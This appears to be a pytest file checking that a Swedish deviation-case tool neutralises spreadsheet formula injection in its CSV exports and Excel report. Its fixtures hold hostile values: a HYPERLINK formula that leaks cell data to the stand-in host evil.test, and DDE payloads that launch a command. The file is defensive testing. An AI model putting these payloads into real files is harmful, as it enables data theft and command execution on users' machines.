"""Hostile values from mail and from `case set` in the outputs an admin opens: the yearly report (.xlsx) and
the CSV exports.  A value a spreadsheet could run as a formula (`=`, `+`, `-`, `@`, tab/CR first) is text."""
from __future__ import annotations

import csv
import io
from datetime import date, datetime, timezone
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from store.db import Database
from store.models import Case
from tests.support.cli_process import cli, cli_process
from tests.support.formbuilder import build_form
from tests.support.mailbuilder import make_mail

WHEN = datetime(2025, 3, 10, 9, 30, tzinfo=timezone.utc)
HOSTILE_EVENT = '=HYPERLINK("http://evil.test/?x="&A1,"klicka")'
HOSTILE_UNIT = "+cmd|' /C calc'!A0"
HOSTILE_DESCRIPTION = "@SUM(1+1)*cmd|' /C calc'!A0"


def _hostile_deviation(folder: Path) -> None:
    form = build_form({"event_type": HOSTILE_EVENT, "units_involved": [HOSTILE_UNIT, "BUP Globen"],
                       "description": HOSTILE_DESCRIPTION, "proposed_action": "-2+3",
                       "reported_date": date(2025, 3, 7), "reporter_unit": "Socialtjänsten Farsta",
                       "reporter_phone": "\t=1+1"})
    folder.mkdir(parents=True)
    (folder / "formula-injection.eml").write_bytes(make_mail(
        subject="Avvikelse: =1+1", sender="Anna Andersson <anna.andersson@stockholm.se>",
        to=["BUS-avvikelser@storsthlm.se", "bup.globen@regionstockholm.se"], when=WHEN,
        attachments=[("Avvikelseblankett.docx", form)]))


def _imported(tmp_path: Path, db_url: str) -> str:
    _hostile_deviation(tmp_path / "storsthlm")
    done = cli("import", "--quiet", str(tmp_path / "storsthlm"), db_url=db_url)
    assert done.returncode == 0, done.stderr
    listed = cli("export", "deviations", db_url=db_url)
    assert '"case_id": "BUS-2025-0001"' in listed.stdout, listed.stdout[-2000:]
    return "BUS-2025-0001"


def _override(db_url: str, case_id: str, field: str, value: object) -> None:
    database = Database(db_url)
    try:
        with database.session() as session:
            case = session.scalars(select(Case).where(Case.case_id == case_id)).one()
            case.overrides = {**(case.overrides or {}), field: value}
    finally:
        database.dispose()


def test_csv_export_neutralises_formulas_from_mail_and_case_set(db_url: str, tmp_path: Path) -> None:
    case = _imported(tmp_path, db_url)
    assert cli("case", "set", "--", case, "personal_data_contact", "-1+1", db_url=db_url).returncode == 0
    refused = cli("case", "set", "--", case, "themes", "@evil; SIP", db_url=db_url)
    assert refused.returncode == 1 and "allowed" in refused.stderr + refused.stdout   # not a theme of the rules
    _override(db_url, case, "themes", ["@evil", "SIP"])     # as a correction stored before values were checked
    text = cli("export", "deviations", "--format", "csv", db_url=db_url).stdout
    row = next(csv.DictReader(io.StringIO(text)))
    assert row["event_type"] == "'" + HOSTILE_EVENT
    assert row["description"] == "'" + HOSTILE_DESCRIPTION
    assert row["proposed_action"] == "'-2+3"
    assert row["personal_data_contact"] == "'-1+1"
    assert row["reporter.phone"] == "'=1+1"     # the form trims the tab; the = stays
    assert row["units_involved"].startswith("'+cmd")
    assert row["classification.themes"] == "'@evil; SIP"
    assert row["case_id"] == case and row["responded"] == "False"
    messages = next(csv.DictReader(io.StringIO(cli("export", "messages", "--format", "csv",
                                                   db_url=db_url).stdout)))
    assert messages["subject"] == "Avvikelse: =1+1"     # not formula-like: left as it is
    # No raw cell anywhere begins like a formula; text is quoted (a ';' inside it stays in its cell).
    for line in csv.reader(io.StringIO(text)):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in line), line
    assert f'"{case}"' in text


def test_xlsx_report_writes_formula_like_overrides_as_text(db_url: str, tmp_path: Path) -> None:
    case = _imported(tmp_path, db_url)
    # Corrections stored before `case set` checked values against the rules (or an admin's own rules file).
    for field, value in (("reporter_org_type", HOSTILE_EVENT), ("receiver_org_types", ["+evil", "-x", "BUP"]),
                         ("themes", ["@SUM(A1)", "\r=1"])):
        _override(db_url, case, field, value)
    done = cli("case", "set", "--", case, "principal_relation", "between", db_url=db_url)
    assert done.returncode == 0, done.stderr
    out = tmp_path / "rapport.xlsx"
    done = cli("report", "--year", "2025", "--out", str(out), db_url=db_url)
    assert done.returncode == 0, done.stderr
    cells = [c for ws in load_workbook(out) for row in ws.iter_rows() for c in row if c.value is not None]
    hostile = [c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\r"))]
    assert {c.value for c in hostile} >= {HOSTILE_EVENT, "+evil", "-x", "@SUM(A1)", "=1"}
    for c in hostile:
        assert c.data_type == "s" and c.quotePrefix, (c.coordinate, c.value, c.data_type)
    numbers = [c for c in cells if isinstance(c.value, (int, float)) and not isinstance(c.value, bool)]
    assert numbers and all(c.data_type == "n" for c in numbers)


@pytest.mark.integration
def test_csv_export_as_a_process_neutralises_formulas(db_url: str, tmp_path: Path) -> None:
    """The CSV written by `python -m busavvik.cli` as a real process (its own standard output)."""
    case = _imported(tmp_path, db_url)
    done = cli_process("export", "deviations", "--format", "csv", db_url=db_url)
    assert done.returncode == 0, done.stderr
    row = next(csv.DictReader(io.StringIO(done.stdout)))
    assert row["case_id"] == case and row["event_type"] == "'" + HOSTILE_EVENT
